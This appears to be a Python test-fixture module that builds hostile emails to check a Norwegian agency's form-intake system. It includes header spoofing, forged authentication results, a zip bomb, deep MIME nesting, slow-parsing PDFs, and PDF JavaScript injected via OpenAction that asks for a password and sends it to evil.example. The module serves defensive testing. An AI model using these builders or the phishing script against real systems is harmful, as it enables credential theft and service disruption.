"""Hostile mails, built in code at test time (as tools/fixtures builds the fixtures): each one a way an
outsider writing to post@imdi.no attacked the first version. Fictional people and companies only;
Fjellbu Mottak AS (fjellbu.no, DRO1048, Gol and Torpo asylmottak) is in the reference registry.

Messages are written as raw bytes, header by header, because the attacks are in headers that the
email package would refuse to write (an encoded display name holding CR/LF and another address).
"""

from __future__ import annotations

import base64
import functools
import io
import random
import zipfile
import zlib

from tests.mail.builders import AUTHSERV_ID, DOCX_TYPE
from tools.fixtures.cases_pdf_build import assemble

CASE_SENDER = "kari.berg@fjellbu.no"
# The display name decodes to "Kari Berg\r\n: kari.berg@fjellbu.no," -- text that looks like an address.
DISPLAY_NAME_TRICK = "=?utf-8?q?Kari_Berg=0D=0A=3A_kari=2Eberg=40fjellbu=2Eno=2C?= <attacker@evil.example>"
ATTACKER = "attacker@evil.example"


def auth_results(domain: str, *, dmarc: str = "pass", authserv_id: str = AUTHSERV_ID) -> str:
    """What a receiving host writes after judging a mail whose From domain is `domain`."""
    spf = "pass" if dmarc == "pass" else "fail"
    return (f"{authserv_id}; spf={spf} smtp.mailfrom={domain}; dkim={dmarc} header.d={domain}; "
            f"dmarc={dmarc} (p=reject) header.from={domain}")


def message(*, from_header: str, subject: str, body: str = "Hei,\n", auth: str | list[str] | None = None,
            attachments: tuple[tuple[str, bytes, str], ...] = (), headers: tuple[tuple[str, str], ...] = (),
            message_id: str = "<hostile@evil.example>") -> bytes:
    """A mail as raw bytes; `auth`: Authentication-Results header(s), topmost first."""
    lines = [f"Authentication-Results: {a}" for a in ([auth] if isinstance(auth, str) else auth or [])]
    lines += [f"From: {from_header}", "To: post@imdi.no", f"Subject: {subject}",
              "Date: Mon, 23 Nov 2026 09:00:00 +0100", f"Message-ID: {message_id}", "MIME-Version: 1.0"]
    lines += [f"{k}: {v}" for k, v in headers]
    text = base64.encodebytes(body.encode("utf-8")).decode("ascii")
    if not attachments:
        lines += ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64", "", text]
        return "\r\n".join(lines).encode("utf-8")
    lines += ['Content-Type: multipart/mixed; boundary="hostile-b"', "", "--hostile-b",
              "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64", "", text]
    for filename, data, ctype in attachments:
        lines += ["--hostile-b", f'Content-Type: {ctype}; name="{filename}"', "Content-Transfer-Encoding: base64",
                  f'Content-Disposition: attachment; filename="{filename}"', "",
                  base64.encodebytes(data).decode("ascii")]
    lines += ["--hostile-b--", ""]
    return "\r\n".join(lines).encode("utf-8")


# --- who sent it -----------------------------------------------------------------------------------------


def display_name_trick(subject: str, body: str) -> bytes:
    """The display-name trick, with DMARC pass -- for evil.example, the attacker's own domain."""
    return message(from_header=DISPLAY_NAME_TRICK, subject=subject, body=body, auth=auth_results("evil.example"),
                   message_id="<trick@evil.example>")


def spoofed(subject: str, body: str, *, sender: str = CASE_SENDER) -> bytes:
    """The case sender's address, forged: DMARC fails for its domain."""
    return message(from_header=f"Kari Berg <{sender}>", subject=subject, body=body,
                   auth=auth_results(sender.rpartition("@")[2], dmarc="fail"), message_id="<spoof@evil.example>")


def forged_pass(subject: str, body: str) -> bytes:
    """No header from IMDi's host at all, only one the sender wrote claiming a pass."""
    return message(from_header=f"Kari Berg <{CASE_SENDER}>", subject=subject, body=body,
                   auth=auth_results("fjellbu.no", authserv_id="mx.evil.example"), message_id="<forged@evil.example>")


def planted_below(subject: str, body: str) -> bytes:
    """IMDi's host said fail; the sender planted a pass with IMDi's own id further down."""
    return message(from_header=f"Kari Berg <{CASE_SENDER}>", subject=subject, body=body,
                   auth=[auth_results("fjellbu.no", dmarc="fail"), auth_results("fjellbu.no")],
                   message_id="<planted@evil.example>")


# --- what a mail may cost --------------------------------------------------------------------------------


def zip_of_zeros(members: int = 99, size: int = 1024 * 1024) -> bytes:
    """About 100 KB that unpacks to 99 MiB: under every per-zip limit (the ratio check has a 1 MiB floor)."""
    buf = io.BytesIO()
    zeros = b"\0" * size
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for i in range(members):
            zf.writestr(zipfile.ZipInfo(f"data/{i:03d}.bin", date_time=(2026, 11, 2, 9, 0, 0)), zeros,
                        compress_type=zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def zip_mail(copies: int) -> bytes:
    data = zip_of_zeros()
    return message(from_header=f"Kari Berg <{CASE_SENDER}>", subject=f"Skjema i zip ({copies})",
                   auth=auth_results("fjellbu.no"), message_id=f"<zip{copies}@fjellbu.no>",
                   attachments=tuple((f"skjema{i}.zip", data, "application/zip") for i in range(copies)))


def nested_multiparts(depth: int = 5000) -> bytes:
    head = (f"Authentication-Results: {auth_results('fjellbu.no')}\r\nFrom: Kari Berg <{CASE_SENDER}>\r\n"
            "To: post@imdi.no\r\nSubject: Dypt nestet skjema\r\nMessage-ID: <deep@fjellbu.no>\r\n"
            "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b0\r\n\r\n--b0\r\n").encode()
    body = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(1, depth))
    body += b"Content-Type: text/plain\r\n\r\nHei\r\n" + b"".join(b"--b%d--\r\n" % i for i in reversed(range(depth)))
    return head + body


def slow_pdf(seed: int, pages: int = 3, per_page: int = 16000) -> bytes:
    """A PDF that takes pdfplumber seconds per page (thousands of scattered characters and strokes, on
    the first pages, which are searched for the form's title): about 10 s with the defaults, some 40 s
    with per_page=30000 (more than one file's default budget of 20 s)."""
    rnd = random.Random(seed)
    kids = b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(pages))
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    for i in range(pages):
        content = bytearray(b"BT /F1 4 Tf\n")
        for _ in range(per_page):
            content += b"1 0 0 1 %d %d Tm (%c) Tj\n" % (rnd.randint(10, 580), rnd.randint(10, 830),
                                                        rnd.choice(b"abcdefgh|-_"))
        content += b"ET\n"
        for _ in range(per_page // 4):
            x, y = rnd.randint(10, 580), rnd.randint(10, 830)
            content += b"%d %d m %d %d l S\n" % (x, y, x + rnd.randint(-100, 100), y + rnd.randint(-100, 100))
        data = zlib.compress(bytes(content))
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
                    b"/Contents %d 0 R >>" % (5 + 2 * i))
        objs.append(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream")
    return assemble(objs)


def slow_pdf_mail(count: int = 6, **kw: int) -> bytes:
    return message(from_header=f"Kari Berg <{CASE_SENDER}>", subject="Skjemaer som PDF",
                   auth=auth_results("fjellbu.no"), message_id="<slow@fjellbu.no>",
                   attachments=tuple((f"skjema{i}.pdf", slow_pdf(i, **kw), "application/pdf") for i in range(count)))


# --- a good form ---------------------------------------------------------------------------------------


def form_docx(first: str = "Jonas", last: str = "Lunde", mobile: str | None = "917 23 456",
              centres: tuple[str, ...] = ("Gol asylmottak",)) -> bytes:
    from tools.fixtures.docx_variants import Applicant, filled

    a = Applicant("Fjellbu Mottak AS", "Kari Berg", CASE_SENDER, "61 26 24 35", first, last,
                  f"{first.lower()}.{last.lower()}@fjellbu.no", mobile, "Miljøarbeider", list(centres))
    return filled(a).to_bytes()


def good_form_mail(first: str = "Jonas", mobile: str | None = "917 23 456", *, verified: bool = True,
                   message_id: str = "<good@fjellbu.no>", subject: str = "Skjema mottaksadministrator") -> bytes:
    return message(from_header=f"Kari Berg <{CASE_SENDER}>", subject=subject,
                   auth=auth_results("fjellbu.no") if verified else None, message_id=message_id,
                   attachments=((f"Skjema - {first}.docx", form_docx(first, mobile=mobile), DOCX_TYPE),))


# --- what an attached file may do in the operator's browser ---------------------------------------------

# What the review's PDF did when the case page framed it: a prompt that looked like the session's own.
PHISHING_SCRIPT = ('app.alert("Okten din er utlopt."); '
                   'var pw = app.response("Okten din er utlopt. Skriv inn passordet ditt:"); '
                   'this.submitForm("https://evil.example/samle?pw=" + pw);')


def with_open_action(pdf: bytes, script: str = PHISHING_SCRIPT) -> bytes:
    """`pdf` with JavaScript that a viewer runs on opening it (/OpenAction, and in the document's
    JavaScript name tree), added as an incremental update, the way an editor appends a change.
    Needs a PDF with a classic xref table and its catalog as a plain object (as the fixtures are)."""
    import re

    tail = pdf[pdf.rindex(b"trailer"):]
    root = int(re.search(rb"/Root (\d+) 0 R", tail).group(1))  # type: ignore[union-attr]
    size = int(re.search(rb"/Size (\d+)", tail).group(1))  # type: ignore[union-attr]
    info = re.search(rb"/Info (\d+) 0 R", tail)
    prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    catalog = re.search(rb"\n%d 0 obj\s*<<(.*?)>>\s*endobj" % root, pdf, re.S)
    assert catalog is not None and b"/OpenAction" not in catalog.group(1)
    action, names = size, size + 1
    js = script.encode("ascii").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    objects = {
        root: b"<<" + catalog.group(1) + b"/OpenAction %d 0 R /Names << /JavaScript %d 0 R >> >>" % (action, names),
        action: b"<< /Type /Action /S /JavaScript /JS (" + js + b") >>",
        names: b"<< /Names [(imdi) %d 0 R] >>" % action,
    }
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n%d 1\n%010d 00000 n \n%d 2\n" % (root, offsets[root], action)
    out += b"%010d 00000 n \n%010d 00000 n \n" % (offsets[action], offsets[names])
    trailer = b"<< /Size %d /Root %d 0 R /Prev %d" % (size + 2, root, prev)
    if info:
        trailer += b" /Info %s 0 R" % info.group(1)
    out += b"trailer\n" + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


PDF_FORM_SENDER = "mariam.abdi@trondelagmottak.no"


def flattened_form_pdf() -> bytes:
    """A filled PDF form (the fixture pdf-fillable-flattened: Even Størdal for Trøndelag Mottaksdrift AS)."""
    from email import message_from_bytes, policy

    from tests.conftest import FIXTURES

    mail = message_from_bytes((FIXTURES / "pdf-fillable-flattened.eml").read_bytes(), policy=policy.default)
    part = next(p for p in mail.iter_attachments() if p.get_content_type() == "application/pdf")
    return bytes(part.get_content())


def scripted_pdf_mail() -> bytes:
    """A good PDF form from a verified sender that also carries the phishing script."""
    return message(from_header=f"Mariam Abdi <{PDF_FORM_SENDER}>", subject="Skjema om mottaksadministrativ bruker",
                   auth=auth_results("trondelagmottak.no"), message_id="<script@trondelagmottak.no>",
                   attachments=(("skjema.pdf", with_open_action(flattened_form_pdf()), "application/pdf"),))


@functools.lru_cache(maxsize=2)  # the same bytes each time (seeded), and 1.5 s to build
def big_word_form(megabytes: int = 16) -> bytes:
    """The good Word form with its document.xml padded to `megabytes` by paragraphs after the form (a
    long appendix of text): under the reader's limits, and costly to parse."""
    import re

    src = zipfile.ZipFile(io.BytesIO(form_docx()))
    xml = src.read("word/document.xml")
    # Words drawn at random, so that the text does not compress beyond the zip ratio limit.
    rnd = random.Random(16)
    words = ["mottak", "rutiner", "beboere", "vakt", "rapport", "turnus", "avvik", "tiltak", "samtale", "kontor",
             "opplæring", "bolig", "tolk", "skole", "helse", "aktivitet", "møte", "plan", "budsjett"]
    target = megabytes * 1024 * 1024 - len(xml)
    paras: list[bytes] = []
    while target > 0:
        text = " ".join(rnd.choice(words) for _ in range(120)).encode()
        paras.append(b'<w:p><w:r><w:t xml:space="preserve">' + text + b"</w:t></w:r></w:p>")
        target -= len(paras[-1])
    body_end = [m.start() for m in re.finditer(rb"<w:sectPr", xml)][-1]
    padded = xml[:body_end] + b"".join(paras) + xml[body_end:]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item, padded if item.filename == "word/document.xml" else src.read(item.filename))
    return out.getvalue()
